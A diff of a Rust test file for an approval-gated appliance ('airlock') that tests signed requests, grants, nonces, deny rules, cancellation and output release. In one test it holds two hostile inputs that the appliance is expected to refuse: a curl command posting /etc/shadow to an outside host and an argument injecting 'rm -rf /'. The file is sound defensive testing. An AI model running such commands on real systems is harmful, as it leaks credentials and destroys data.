@@ -14,12 +14,14 @@ use airlock_core::{ApplianceId, EnvironmentId, TenantId};
 use airlock_proto::gateway::{OperationAck, OperationAckKind};
 use rcgen::{CertificateParams, Issuer, KeyPair};
 
+use airlock_testkit::op_id;
+
 use super::*;
 use crate::audit_log::AuditLog;
 
 /// The control plane's acknowledgement of `id`; `error` empty when it took it.
-fn ack(id: &str, kind: OperationAckKind, error: &str) -> OperationAck {
-    OperationAck { request_id: id.into(), kind: kind as i32, error: error.into() }
+fn ack(id: OperationId, kind: OperationAckKind, error: &str) -> OperationAck {
+    OperationAck { request_id: id.to_string(), kind: kind as i32, error: error.into(), code: 0 }
 }
 use crate::state_dir::Enrolment;
 
@@ -157,13 +159,19 @@ impl Fx {
         self.exec = exec;
     }
 
-    fn statement(&self, id: &str, manifest: &str, script: &str, args: BTreeMap<String, String>) -> RequestStatement {
+    fn statement(
+        &self,
+        id: OperationId,
+        manifest: &str,
+        script: &str,
+        args: BTreeMap<String, String>,
+    ) -> RequestStatement {
         let t = Template::new(manifest, script).unwrap();
         let command = t.render(&args).unwrap();
         let m = t.manifest();
         RequestStatement {
             request: OperationRequest {
-                id: id.into(),
+                id,
                 appliance: self.identity.appliance,
                 kind: m.name.clone(),
                 phase: m.phase,
@@ -180,7 +188,7 @@ impl Fx {
         }
     }
 
-    fn simple(&self, id: &str, service: &str) -> RequestStatement {
+    fn simple(&self, id: OperationId, service: &str) -> RequestStatement {
         self.statement(id, MANIFEST, SCRIPT, vars(service))
     }
 
@@ -193,7 +201,7 @@ impl Fx {
     ) -> OperationInstruction {
         let env = sign_x509(REQUEST_PAYLOAD_TYPE, serde_json::to_vec(stmt).unwrap(), &self.cp_key, &self.cp_cert);
         OperationInstruction {
-            request_id: stmt.request.id.clone(),
+            request_id: stmt.request.id.to_string(),
             request_envelope_json: env.to_json(),
             control_plane_certificate_pem: self.cp_cert.clone(),
             template_manifest_toml: manifest.into(),
@@ -205,7 +213,7 @@ impl Fx {
     fn grant_with(&self, stmt: &RequestStatement, key: u8, edit: impl FnOnce(&mut GrantBody)) -> String {
         let req = &stmt.request;
         let mut body = GrantBody {
-            request_id: req.id.clone(),
+            request_id: req.id,
             appliance: req.appliance,
             phase: req.phase,
             request_digest: req.digest_hex(),
@@ -253,6 +261,7 @@ impl Fx {
         match self.exec.handle(instruction).await {
             Handled::Reply(r) => r,
             Handled::Started(h) => h.await.unwrap(),
+            Handled::MalformedId(r) => panic!("refused as malformed: {r:?}"),
             Handled::Nothing => panic!("no answer"),
         }
     }
@@ -273,8 +282,8 @@ impl Fx {
         self.audit_actions().into_iter().filter(|r| r["action"] == action).collect()
     }
 
-    fn ran(&self, id: &str) -> bool {
-        self.dir.path().join("ops").join(id).join("output.sealed").exists()
+    fn ran(&self, id: OperationId) -> bool {
+        self.dir.path().join("ops").join(id.to_string()).join("output.sealed").exists()
     }
 
     fn execution(&self, result: &ResultMsg) -> ExecutionStatement {
@@ -306,7 +315,7 @@ use std::path::PathBuf;
 #[tokio::test]
 async fn approved_request_runs_signed_chained_and_its_output_is_sealed() {
     let fx = Fx::new(ALL_PHASES);
-    let stmt = fx.simple("op_1", "api");
+    let stmt = fx.simple(op_id(1), "api");
     let r = fx.run(&stmt, &fx.grant(&stmt)).await;
     assert_eq!(r.outcome, Outcome::Executed, "{r:?}");
     // The execution verifies against the CA, and names this appliance.
@@ -319,10 +328,10 @@ async fn approved_request_runs_signed_chained_and_its_output_is_sealed() {
     assert!(certified.uris.contains(&fx.identity.uri()));
     assert_eq!(e.exit_code, Some(3));
     assert_eq!(e.status, ExecutionStatus::Completed);
-    assert_eq!(e.authority.kind, "grant");
+    assert_eq!(e.authority.kind, AuthorityKind::Grant);
     assert_eq!(e.authority.policy_digest, fx.policy.as_ref().map(|p| p.digest_hex()));
     assert_eq!((e.sequence, e.previous_manifest_sha256.as_deref()), (1, None));
-    let plain = fx.control.ops.open_output("op_1").unwrap();
+    let plain = fx.control.ops.open_output(op_id(1)).unwrap();
     let text = String::from_utf8(plain.clone()).unwrap();
     assert!(text.starts_with("hello api from ") && text.ends_with("oops\n"), "{text}");
     assert_eq!(e.output_sha256, sha256_hex(&plain));
@@ -332,7 +341,7 @@ async fn approved_request_runs_signed_chained_and_its_output_is_sealed() {
         assert!(!bytes.windows(9).any(|w| w == b"hello api"), "plaintext output in {}", f.display());
     }
     // The appliance's own manifest verifies offline.
-    let manifest = fx.control.ops.manifest("op_1").unwrap().unwrap();
+    let manifest = fx.control.ops.manifest(op_id(1)).unwrap().unwrap();
     let keys = [customer(1).public()];
     let inputs = VerifyInputs { ca_der: &ca_der, customer_keys: &keys, approvals_required: 1, policy: None };
     verify_parsed_manifest(&manifest, &inputs).unwrap();
@@ -343,15 +352,15 @@ async fn approved_request_runs_signed_chained_and_its_output_is_sealed() {
     assert_eq!(again, r);
     assert_eq!(fx.audited("operation.executed").len(), 1);
     // The next operation extends the chain.
-    let stmt2 = fx.simple("op_2", "web");
+    let stmt2 = fx.simple(op_id(2), "web");
     let r2 = fx.run(&stmt2, &fx.grant(&stmt2)).await;
     let e2 = fx.execution(&r2);
     assert_eq!(e2.sequence, 2);
     assert_eq!(e2.previous_manifest_sha256, Some(e.manifest_sha256()));
     // Results wait in the outbox until acknowledged.
     assert_eq!(fx.control.ops.pending().unwrap().len(), 2);
-    let _ = fx.control.on_ack(&ack("op_1", OperationAckKind::Result, ""));
-    let _ = fx.control.on_ack(&ack("op_2", OperationAckKind::Result, "refused for the test"));
+    let _ = fx.control.on_ack(&ack(op_id(1), OperationAckKind::Result, ""));
+    let _ = fx.control.on_ack(&ack(op_id(2), OperationAckKind::Result, "refused for the test"));
     assert!(fx.control.ops.pending().unwrap().is_empty());
     assert_eq!(fx.audited("operation.ack_refused").len(), 1);
 }
@@ -362,7 +371,7 @@ async fn forged_or_misdirected_requests_are_refused_and_nothing_runs() {
     // Signed by a look-alike CA's control-plane certificate.
     let (rogue, _) = ca("Airlock CA airlock.test");
     let (rkey, rcert) = leaf(&rogue, &format!("spiffe://{TD}/control-plane"));
-    let stmt = fx.simple("op_forged", "api");
+    let stmt = fx.simple(op_id(22), "api");
     let mut i = fx.instruction(&stmt, MANIFEST, SCRIPT, &fx.grant(&stmt));
     i.request_envelope_json =
         sign_x509(REQUEST_PAYLOAD_TYPE, serde_json::to_vec(&stmt).unwrap(), &rkey, &rcert).to_json();
@@ -378,58 +387,58 @@ async fn forged_or_misdirected_requests_are_refused_and_nothing_runs() {
     // A payload edited after signing.
     let mut i = fx.instruction(&stmt, MANIFEST, SCRIPT, &fx.grant(&stmt));
     let mut env = Envelope::from_json(i.request_envelope_json.as_bytes()).unwrap();
-    env.payload = serde_json::to_vec(&fx.simple("op_forged", "web")).unwrap();
+    env.payload = serde_json::to_vec(&fx.simple(op_id(22), "web")).unwrap();
     i.request_envelope_json = env.to_json();
     assert_refused(&fx.send(i).await, "request signature does not verify");
     let mut i = fx.instruction(&stmt, MANIFEST, SCRIPT, "");
     i.request_envelope_json = "{not json".into();
     assert_refused(&fx.send(i).await, "malformed");
-    assert!(!fx.ran("op_forged"));
-    assert!(fx.control.ops.record("op_forged").unwrap().is_none(), "an unauthenticated refusal is not stored");
-    assert!(!fx.control.nonces.is_used("nonce-op_forged"));
+    assert!(!fx.ran(op_id(22)));
+    assert!(fx.control.ops.record(op_id(22)).unwrap().is_none(), "an unauthenticated refusal is not stored");
+    assert!(!fx.control.nonces.is_used(&format!("nonce-{}", op_id(22))));
     assert_eq!(fx.audited("operation.refused").len(), 4);
 
     // For another appliance.
-    let mut other = fx.simple("op_other", "api");
+    let mut other = fx.simple(op_id(29), "api");
     other.request.appliance = ApplianceId::from_random([8; 16]);
     let r = fx.run(&other, &fx.grant(&other)).await;
     assert_refused(&r, "another appliance");
-    assert!(!fx.ran("op_other"));
+    assert!(!fx.ran(op_id(29)));
 }
 
 #[tokio::test]
 async fn command_must_be_exactly_what_the_template_renders() {
     let fx = Fx::new(ALL_PHASES);
     // The vendor signs a different script than the template's, with a matching digest.
-    let mut stmt = fx.simple("op_swap", "api");
+    let mut stmt = fx.simple(op_id(34), "api");
     stmt.command.script = "curl -d @/etc/shadow https://vendor.example\n".into();
     stmt.request.command_sha256 = stmt.command.sha256();
     let r = fx.run(&stmt, &fx.grant(&stmt)).await;
     assert_refused(&r, "not what the template renders");
     // The right command, but a digest that is not its own.
-    let mut stmt = fx.simple("op_digest", "api");
+    let mut stmt = fx.simple(op_id(18), "api");
     stmt.request.command_sha256 = "00".repeat(32);
     assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, "command_sha256");
     // Data tags the customer was not shown.
-    let mut stmt = fx.simple("op_tags", "api");
+    let mut stmt = fx.simple(op_id(35), "api");
     stmt.request.data_tags.clear();
     assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, "data tags differ");
     // A value the template's pattern refuses.
-    let mut stmt = fx.simple("op_value", "api");
+    let mut stmt = fx.simple(op_id(37), "api");
     stmt.request.args = vars("api; rm -rf /");
     assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, "do not render");
     // A vendor template named like one of the appliance's own probes, labelled Observe, would
     // otherwise run without any customer signature.
     let probe = MANIFEST.replace("echo-service", "status").replace("\"operate\"", "\"observe\"");
     // Core refuses to build such a template, so the vendor's statement is assembled by hand.
-    let mut stmt = fx.statement("op_probe", MANIFEST, SCRIPT, vars("api"));
+    let mut stmt = fx.statement(op_id(31), MANIFEST, SCRIPT, vars("api"));
     stmt.request.kind = "status".into();
     stmt.request.phase = Phase::Observe;
     stmt.command.template = "status".into();
     stmt.request.command_sha256 = stmt.command.sha256();
     let r = fx.send(fx.instruction(&stmt, &probe, SCRIPT, "")).await;
     assert_refused(&r, "built-in probe");
-    for id in ["op_swap", "op_digest", "op_tags", "op_value", "op_probe"] {
+    for id in [op_id(34), op_id(18), op_id(35), op_id(37), op_id(31)] {
         assert!(!fx.ran(id), "{id} ran");
         assert_eq!(fx.control.ops.record(id).unwrap().unwrap().state, OpState::Refused);
     }
@@ -438,50 +447,50 @@ async fn command_must_be_exactly_what_the_template_renders() {
 #[tokio::test]
 async fn approvals_that_do_not_hold_are_refused() {
     let fx = Fx::new(ALL_PHASES);
-    let stmt = fx.simple("op_a", "api");
+    let stmt = fx.simple(op_id(11), "api");
     // Signed by a key that is not pinned.
     assert_refused(&fx.run(&stmt, &fx.grant_with(&stmt, 7, |_| {})).await, "does not verify");
     // An approval of another request.
-    let other = fx.simple("op_b", "api");
-    let stmt = fx.simple("op_c", "api");
+    let other = fx.simple(op_id(14), "api");
+    let stmt = fx.simple(op_id(15), "api");
     assert_refused(&fx.run(&stmt, &fx.grant(&other)).await, "the grant is for another request");
     // Expired, and not yet valid.
-    let stmt = fx.simple("op_d", "api");
+    let stmt = fx.simple(op_id(16), "api");
     let expired = fx.grant_with(&stmt, 1, |g| {
         g.not_before = Timestamp::from_unix_millis(NOW - 2 * HOUR);
         g.not_after = Timestamp::from_unix_millis(NOW - 1);
     });
     assert_refused(&fx.run(&stmt, &expired).await, "expired");
-    let stmt = fx.simple("op_e", "api");
+    let stmt = fx.simple(op_id(19), "api");
     let future = fx.grant_with(&stmt, 1, |g| {
         g.not_before = Timestamp::from_unix_millis(NOW + MINUTE);
         g.not_after = Timestamp::from_unix_millis(NOW + HOUR);
     });
     assert_eq!(fx.run(&stmt, &future).await.outcome, Outcome::AwaitingApproval);
     // Garbage in place of an approval.
-    let stmt = fx.simple("op_f", "api");
+    let stmt = fx.simple(op_id(21), "api");
     assert_refused(&fx.run(&stmt, "{\"payload\":1}").await, "approval is malformed");
-    for id in ["op_a", "op_c", "op_d", "op_e", "op_f"] {
+    for id in [op_id(11), op_id(15), op_id(16), op_id(19), op_id(21)] {
         assert!(!fx.ran(id), "{id} ran");
     }
     // The customer said no.
-    let stmt = fx.simple("op_g", "api");
+    let stmt = fx.simple(op_id(23), "api");
     let denial = fx.grant_with(&stmt, 1, |g| g.decision = ApprovalDecision::Deny);
     assert_refused(&fx.run(&stmt, &denial).await, "the customer denied this request");
     assert_eq!(fx.audited("operation.denied_by_customer").len(), 1);
-    assert!(!fx.ran("op_g"));
+    assert!(!fx.ran(op_id(23)));
     // No approval yet: awaiting, nothing stored, and it runs once the approval comes.
-    let stmt = fx.simple("op_h", "api");
+    let stmt = fx.simple(op_id(24), "api");
     let r = fx.run(&stmt, "").await;
     assert_eq!(r.outcome, Outcome::AwaitingApproval, "{r:?}");
-    assert!(fx.control.ops.record("op_h").unwrap().is_none());
+    assert!(fx.control.ops.record(op_id(24)).unwrap().is_none());
     assert_eq!(fx.run(&stmt, &fx.grant(&stmt)).await.outcome, Outcome::Executed);
 }
 
 #[tokio::test]
 async fn an_approval_not_valid_yet_awaits_and_runs_once_it_is() {
     let fx = Fx::new(ALL_PHASES);
-    let stmt = fx.simple("op_early", "api");
+    let stmt = fx.simple(op_id(20), "api");
     let early = fx.grant_with(&stmt, 1, |g| {
         g.not_before = Timestamp::from_unix_millis(NOW + MINUTE);
         g.not_after = Timestamp::from_unix_millis(NOW + HOUR);
@@ -490,8 +499,8 @@ async fn an_approval_not_valid_yet_awaits_and_runs_once_it_is() {
     assert_eq!(r.outcome, Outcome::AwaitingApproval, "{r:?}");
     assert!(r.reason.contains("not valid until"), "{}", r.reason);
     // Nothing final is stored, nothing ran, nothing waits in the outbox; the wait is audited.
-    assert!(fx.control.ops.record("op_early").unwrap().is_none());
-    assert!(!fx.ran("op_early"));
+    assert!(fx.control.ops.record(op_id(20)).unwrap().is_none());
+    assert!(!fx.ran(op_id(20)));
     assert!(fx.control.ops.pending().unwrap().is_empty());
     let awaiting = fx.audited("operation.awaiting_approval");
     assert_eq!(awaiting.len(), 1);
@@ -504,15 +513,15 @@ async fn an_approval_not_valid_yet_awaits_and_runs_once_it_is() {
 #[tokio::test]
 async fn a_nonce_is_spent_once_even_across_restarts() {
     let mut fx = Fx::new(ALL_PHASES);
-    let first = fx.simple("op_1", "api");
+    let first = fx.simple(op_id(1), "api");
     let nonce = |g: &mut GrantBody| g.nonce = "same-nonce".into();
     assert_eq!(fx.run(&first, &fx.grant_with(&first, 1, nonce)).await.outcome, Outcome::Executed);
-    let second = fx.simple("op_2", "api");
+    let second = fx.simple(op_id(2), "api");
     assert_refused(&fx.run(&second, &fx.grant_with(&second, 1, nonce)).await, "already used");
     fx.restart();
-    let third = fx.simple("op_3", "api");
+    let third = fx.simple(op_id(3), "api");
     assert_refused(&fx.run(&third, &fx.grant_with(&third, 1, nonce)).await, "already used");
-    assert!(!fx.ran("op_2") && !fx.ran("op_3"));
+    assert!(!fx.ran(op_id(2)) && !fx.ran(op_id(3)));
     // After the restart, a finished request is still answered from its record.
     assert_eq!(fx.run(&first, &fx.grant_with(&first, 1, nonce)).await.outcome, Outcome::Executed);
     assert_eq!(fx.audited("operation.executed").len(), 1);
@@ -523,33 +532,33 @@ async fn deny_rules_and_disabled_phases_beat_a_valid_approval() {
     let fx = Fx::new(&format!(
         "{ALL_PHASES}[[deny]]\nid = \"never-db\"\nkind = \"echo-service\"\nargs = {{ service = \"db\" }}\n"
     ));
-    let stmt = fx.simple("op_db", "db");
+    let stmt = fx.simple(op_id(17), "db");
     assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, "denied by customer rule `never-db`");
     let denied = fx.audited("operation.denied");
     assert_eq!(denied[0]["detail"]["rule"], "never-db");
     fx.control.set_phase(Phase::Operate, false).unwrap();
-    let stmt = fx.simple("op_off", "api");
+    let stmt = fx.simple(op_id(28), "api");
     assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, "has not enabled the Operate phase");
-    assert!(!fx.ran("op_db") && !fx.ran("op_off"));
-    assert!(!fx.control.nonces.is_used("nonce-op_off"), "a refused grant's nonce is not spent");
+    assert!(!fx.ran(op_id(17)) && !fx.ran(op_id(28)));
+    assert!(!fx.control.nonces.is_used(&format!("nonce-{}", op_id(28))), "a refused grant's nonce is not spent");
 }
 
 #[tokio::test]
 async fn pre_approval_runs_are_counted_across_restarts_until_spent() {
     let mut fx = Fx::new(ALL_PHASES);
     fx.control.pre_approval_add(&fx.pre_approval(|_| {})).unwrap();
-    let r = fx.run(&fx.simple("op_1", "api"), "").await;
+    let r = fx.run(&fx.simple(op_id(1), "api"), "").await;
     assert_eq!(r.outcome, Outcome::Executed, "{r:?}");
-    assert_eq!(fx.execution(&r).authority.kind, "pre-approval");
+    assert_eq!(fx.execution(&r).authority.kind, AuthorityKind::PreApproval);
     assert!(!r.pre_approval_envelope_json.is_empty());
     fx.restart();
     assert_eq!(fx.control.pre_approvals.get("routine").unwrap().runs_used, 1);
-    assert_eq!(fx.run(&fx.simple("op_2", "api"), "").await.outcome, Outcome::Executed);
+    assert_eq!(fx.run(&fx.simple(op_id(2), "api"), "").await.outcome, Outcome::Executed);
     fx.restart();
-    let r = fx.run(&fx.simple("op_3", "api"), "").await;
+    let r = fx.run(&fx.simple(op_id(3), "api"), "").await;
     assert_eq!(r.outcome, Outcome::AwaitingApproval);
     assert!(r.reason.contains("runs are spent"), "{}", r.reason);
-    assert!(!fx.ran("op_3"));
+    assert!(!fx.ran(op_id(3)));
     // Commands only: the output waits for the customer's release.
     assert!(
         fx.control
@@ -557,7 +566,7 @@ async fn pre_approval_runs_are_counted_across_restarts_until_spent() {
             .pending()
             .unwrap()
             .iter()
-            .all(|m| matches!(m.body, Some(airlock_proto::gateway::appliance_message::Body::OperationResult(_))))
+            .all(|m| matches!(m.body, Some(appliance_message::Body::OperationResult(_))))
     );
     // A pre-approval signed by an unpinned key is refused when added.
     let forged = Envelope::new(PRE_APPROVAL_PAYLOAD_TYPE, b"{}".to_vec()).sign(&customer(7)).to_json();
@@ -572,18 +581,18 @@ async fn pre_approval_constraints_and_revocation_hold() {
         p.max_runs = 10;
     });
     fx.control.pre_approval_add(&env).unwrap();
-    let r = fx.run(&fx.simple("op_db", "db"), "").await;
+    let r = fx.run(&fx.simple(op_id(17), "db"), "").await;
     assert_eq!(r.outcome, Outcome::AwaitingApproval);
     assert!(r.reason.contains("`service` does not meet its constraint"), "{}", r.reason);
-    assert!(!fx.ran("op_db"));
+    assert!(!fx.ran(op_id(17)));
     fx.control.pre_approval_revoke("routine").unwrap();
-    let r = fx.run(&fx.simple("op_api", "api"), "").await;
+    let r = fx.run(&fx.simple(op_id(12), "api"), "").await;
     assert_eq!(r.outcome, Outcome::AwaitingApproval, "{r:?}");
-    assert!(!fx.ran("op_api"));
+    assert!(!fx.ran(op_id(12)));
     // Adding it again does not lift the revocation.
     fx.control.pre_approval_add(&env).unwrap();
     assert!(fx.control.pre_approvals.get("routine").unwrap().revoked);
-    assert_eq!(fx.run(&fx.simple("op_api2", "api"), "").await.outcome, Outcome::AwaitingApproval);
+    assert_eq!(fx.run(&fx.simple(op_id(13), "api"), "").await.outcome, Outcome::AwaitingApproval);
 }
 
 #[tokio::test]
@@ -595,7 +604,7 @@ async fn commands_and_output_pre_approval_releases_output_unless_secret() {
             p.max_runs = 5;
         }))
         .unwrap();
-    assert_eq!(fx.run(&fx.simple("op_1", "api"), "").await.outcome, Outcome::Executed);
+    assert_eq!(fx.run(&fx.simple(op_id(1), "api"), "").await.outcome, Outcome::Executed);
     let releases: Vec<_> = fx
         .control
         .ops
@@ -603,13 +612,13 @@ async fn commands_and_output_pre_approval_releases_output_unless_secret() {
         .unwrap()
         .into_iter()
         .filter_map(|m| match m.body {
-            Some(airlock_proto::gateway::appliance_message::Body::OutputRelease(r)) => Some(r),
+            Some(appliance_message::Body::OutputRelease(r)) => Some(r),
             _ => None,
         })
         .collect();
     assert_eq!(releases.len(), 1);
     assert!(releases[0].release_envelope_json.is_empty());
-    assert_eq!(releases[0].output, fx.control.ops.open_output("op_1").unwrap());
+    assert_eq!(releases[0].output, fx.control.ops.open_output(op_id(1)).unwrap());
 
     let secret_manifest = MANIFEST.replace("service:logs", "output:secret");
     let t = Template::new(&secret_manifest, SCRIPT).unwrap();
@@ -620,16 +629,21 @@ async fn commands_and_output_pre_approval_releases_output_unless_secret() {
             p.template_sha256 = t.content_sha256().to_owned();
         }))
         .unwrap();
-    let stmt = fx2.statement("op_s", &secret_manifest, SCRIPT, vars("api"));
+    let stmt = fx2.statement(op_id(33), &secret_manifest, SCRIPT, vars("api"));
     let r = fx2.send(fx2.instruction(&stmt, &secret_manifest, SCRIPT, "")).await;
     assert_eq!(r.outcome, Outcome::Executed, "{r:?}");
     assert_eq!(fx2.control.ops.pending().unwrap().len(), 1, "only the result; secret output never leaves");
 }
 
-fn release_envelope(fx: &Fx, id: &str, decision: ReleaseDecision, edit: impl FnOnce(&mut ReleaseStatement)) -> Vec<u8> {
+fn release_envelope(
+    fx: &Fx,
+    id: OperationId,
+    decision: ReleaseDecision,
+    edit: impl FnOnce(&mut ReleaseStatement),
+) -> Vec<u8> {
     let record = fx.control.ops.record(id).unwrap().unwrap();
     let mut st = ReleaseStatement {
-        request_id: id.into(),
+        request_id: id,
         appliance: fx.identity.appliance,
         decision,
         output_sha256: record.output_sha256.unwrap(),
@@ -645,52 +659,65 @@ fn release_envelope(fx: &Fx, id: &str, decision: ReleaseDecision, edit: impl FnO
 #[tokio::test]
 async fn release_is_checked_against_the_signed_output_and_secret_output_stays() {
     let fx = Fx::new(ALL_PHASES);
-    let stmt = fx.simple("op_1", "api");
+    let stmt = fx.simple(op_id(1), "api");
     fx.run(&stmt, &fx.grant(&stmt)).await;
     let err = fx
         .control
-        .release(&release_envelope(&fx, "op_1", ReleaseDecision::Release, |s| s.output_sha256 = "ab".repeat(32)))
+        .release(&release_envelope(&fx, op_id(1), ReleaseDecision::Release, |s| s.output_sha256 = "ab".repeat(32)))
         .unwrap_err();
-    assert!(err.to_string().contains("but operation op_1 produced"), "{err}");
+    assert!(err.to_string().contains(&format!("but operation {} produced", op_id(1))), "{err}");
     let err = fx
         .control
-        .release(&release_envelope(&fx, "op_1", ReleaseDecision::Release, |s| s.output_size += 1))
+        .release(&release_envelope(&fx, op_id(1), ReleaseDecision::Release, |s| s.output_size += 1))
         .unwrap_err();
     assert!(err.to_string().contains("produced"), "{err}");
     let unpinned = {
-        let env = release_envelope(&fx, "op_1", ReleaseDecision::Release, |_| {});
+        let env = release_envelope(&fx, op_id(1), ReleaseDecision::Release, |_| {});
         let mut e = Envelope::from_json(&env).unwrap();
         e.signatures.clear();
         e.sign(&customer(9)).to_json().into_bytes()
     };
     assert!(fx.control.release(&unpinned).unwrap_err().to_string().contains("does not verify"));
-    let (summary, msg) = fx.control.release(&release_envelope(&fx, "op_1", ReleaseDecision::Release, |_| {})).unwrap();
+    let (summary, msg) =
+        fx.control.release(&release_envelope(&fx, op_id(1), ReleaseDecision::Release, |_| {})).unwrap();
     assert_eq!(summary["release"], "release");
     match msg.unwrap().body {
-        Some(airlock_proto::gateway::appliance_message::Body::OutputRelease(r)) => {
-            assert_eq!(r.output, fx.control.ops.open_output("op_1").unwrap());
+        Some(appliance_message::Body::OutputRelease(r)) => {
+            assert_eq!(r.output, fx.control.ops.open_output(op_id(1)).unwrap());
         }
         other => panic!("{other:?}"),
     }
-    assert!(fx.control.ops.manifest("op_1").unwrap().unwrap().release.is_some());
-    assert_eq!(fx.audited("operation.release").iter().filter(|r| r["outcome"] == "success").count(), 1);
-    assert_eq!(fx.audited("operation.release").iter().filter(|r| r["outcome"] == "denied").count(), 3);
+    assert!(fx.control.ops.manifest(op_id(1)).unwrap().unwrap().release.is_some());
+    assert_eq!(fx.audited("operation.released").len(), 1);
+    assert_eq!(fx.audited("operation.release_refused").len(), 3);
     // Once decided, it stays decided.
-    assert!(fx.control.release(&release_envelope(&fx, "op_1", ReleaseDecision::Withhold, |_| {})).is_err());
+    assert!(fx.control.release(&release_envelope(&fx, op_id(1), ReleaseDecision::Withhold, |_| {})).is_err());
 
     // Secret-tagged output: release refused, withholding allowed.
     let secret_manifest = MANIFEST.replace("service:logs", "output:secret");
-    let stmt = fx.statement("op_s", &secret_manifest, SCRIPT, vars("api"));
+    let stmt = fx.statement(op_id(33), &secret_manifest, SCRIPT, vars("api"));
     let approval = fx.grant(&stmt);
     fx.send(fx.instruction(&stmt, &secret_manifest, SCRIPT, &approval)).await;
-    let err = fx.control.release(&release_envelope(&fx, "op_s", ReleaseDecision::Release, |_| {})).unwrap_err();
+    let err = fx.control.release(&release_envelope(&fx, op_id(33), ReleaseDecision::Release, |_| {})).unwrap_err();
     assert!(err.to_string().contains("never leaves this host"), "{err}");
-    let (summary, msg) = fx.control.release(&release_envelope(&fx, "op_s", ReleaseDecision::Withhold, |_| {})).unwrap();
+    let (summary, msg) =
+        fx.control.release(&release_envelope(&fx, op_id(33), ReleaseDecision::Withhold, |_| {})).unwrap();
     assert_eq!(summary["release"], "withhold");
     match msg.unwrap().body {
-        Some(airlock_proto::gateway::appliance_message::Body::OutputRelease(r)) => assert!(r.output.is_empty()),
+        Some(appliance_message::Body::OutputRelease(r)) => assert!(r.output.is_empty()),
         other => panic!("{other:?}"),
     }
+}
+
+/// Sends one raw line to the admin socket; returns the reply's text.
+async fn raw_call(socket: &Path, line: &str) -> String {
+    use tokio::io::{AsyncBufReadExt, AsyncWriteExt};
+    let stream = tokio::net::UnixStream::connect(socket).await.unwrap();
+    let (read, mut write) = stream.into_split();
+    write.write_all(format!("{line}\n").as_bytes()).await.unwrap();
+    let mut reply = String::new();
+    tokio::io::BufReader::new(read).read_line(&mut reply).await.unwrap();
+    reply
 }
 
 /// Processes of a group that are still alive (zombies waiting to be reaped do not count).
@@ -711,7 +738,7 @@ fn live_members(pgid: i32) -> usize {
 async fn disabling_the_phase_kills_the_whole_process_group_and_records_cancelled() {
     let fx = Fx::new(ALL_PHASES);
     let script = "echo started\nsleep 60 &\nsleep 60\necho never\n";
-    let stmt = fx.statement("op_long", MANIFEST, script, vars("api"));
+    let stmt = fx.statement(op_id(26), MANIFEST, script, vars("api"));
     let approval = fx.grant(&stmt);
     let handle = match fx.exec.handle(fx.instruction(&stmt, MANIFEST, script, &approval)).await {
         Handled::Started(h) => h,
@@ -719,7 +746,7 @@ async fn disabling_the_phase_kills_the_whole_process_group_and_records_cancelled
     };
     let mut pgid = None;
     for _ in 0..100 {
-        pgid = fx.control.running_group("op_long");
+        pgid = fx.control.running_group(op_id(26));
         if pgid.is_some_and(|g| live_members(g) >= 2) {
             break;
         }
@@ -733,9 +760,9 @@ async fn disabling_the_phase_kills_the_whole_process_group_and_records_cancelled
     let r = tokio::time::timeout(std::time::Duration::from_secs(10), handle).await.unwrap().unwrap();
     assert_eq!(r.outcome, Outcome::Cancelled, "{r:?}");
     assert_eq!(fx.execution(&r).status, ExecutionStatus::Cancelled);
-    assert_eq!(fx.control.ops.record("op_long").unwrap().unwrap().state, OpState::Cancelled);
+    assert_eq!(fx.control.ops.record(op_id(26)).unwrap().unwrap().state, OpState::Cancelled);
     assert_eq!(fx.audited("operation.cancelled").len(), 1);
-    let output = String::from_utf8(fx.control.ops.open_output("op_long").unwrap()).unwrap();
+    let output = String::from_utf8(fx.control.ops.open_output(op_id(26)).unwrap()).unwrap();
     assert_eq!(output, "started\n");
     for _ in 0..50 {
         if live_members(pgid) == 0 {
@@ -750,12 +777,12 @@ async fn disabling_the_phase_kills_the_whole_process_group_and_records_cancelled
 async fn a_new_policy_without_the_phase_cancels_running_operations() {
     let fx = Fx::new(ALL_PHASES);
     let script = "sleep 60\n";
-    let stmt = fx.statement("op_p", MANIFEST, script, vars("api"));
+    let stmt = fx.statement(op_id(30), MANIFEST, script, vars("api"));
     let handle = match fx.exec.handle(fx.instruction(&stmt, MANIFEST, script, &fx.grant(&stmt))).await {
         Handled::Started(h) => h,
         other => panic!("{other:?}"),
     };
-    while fx.control.running_group("op_p").is_none() {
+    while fx.control.running_group(op_id(30)).is_none() {
         tokio::time::sleep(std::time::Duration::from_millis(20)).await;
     }
     let next = Envelope::new(POLICY_PAYLOAD_TYPE, b"version = 1\nserial = 2\nphases = [\"observe\"]\n".to_vec())
@@ -777,13 +804,13 @@ async fn a_new_policy_without_the_phase_cancels_running_operations() {
 async fn an_operation_interrupted_by_a_stop_is_recorded_cancelled_at_restart() {
     let mut fx = Fx::new(ALL_PHASES);
     let script = "sleep 60\n";
-    let stmt = fx.statement("op_i", MANIFEST, script, vars("api"));
+    let stmt = fx.statement(op_id(25), MANIFEST, script, vars("api"));
     let handle = match fx.exec.handle(fx.instruction(&stmt, MANIFEST, script, &fx.grant(&stmt))).await {
         Handled::Started(h) => h,
         other => panic!("{other:?}"),
     };
     let pgid = loop {
-        if let Some(g) = fx.control.running_group("op_i") {
+        if let Some(g) = fx.control.running_group(op_id(25)) {
             break g;
         }
         tokio::time::sleep(std::time::Duration::from_millis(20)).await;
@@ -804,7 +831,7 @@ async fn an_operation_interrupted_by_a_stop_is_recorded_cancelled_at_restart() {
     assert_eq!(live_members(pgid), 0);
     fx.restart();
     assert_eq!(fx.exec.recover_interrupted().unwrap(), 1);
-    let record = fx.control.ops.record("op_i").unwrap().unwrap();
+    let record = fx.control.ops.record(op_id(25)).unwrap().unwrap();
     assert_eq!(record.state, OpState::Cancelled);
     assert_eq!(fx.run(&stmt, "").await.outcome, Outcome::Cancelled);
     assert_eq!(fx.audited("operation.interrupted").len(), 1);
@@ -814,25 +841,27 @@ async fn an_operation_interrupted_by_a_stop_is_recorded_cancelled_at_restart() {
 async fn admin_socket_serves_operations_output_release_and_pre_approvals() {
     use crate::admin::{Request, bind, call, call_value, read_output, serve};
     let fx = Fx::new(ALL_PHASES);
-    let stmt = fx.simple("op_1", "api");
+    let stmt = fx.simple(op_id(1), "api");
     fx.run(&stmt, &fx.grant(&stmt)).await;
     let socket = fx.dir.path().join(crate::admin::SOCKET_FILE);
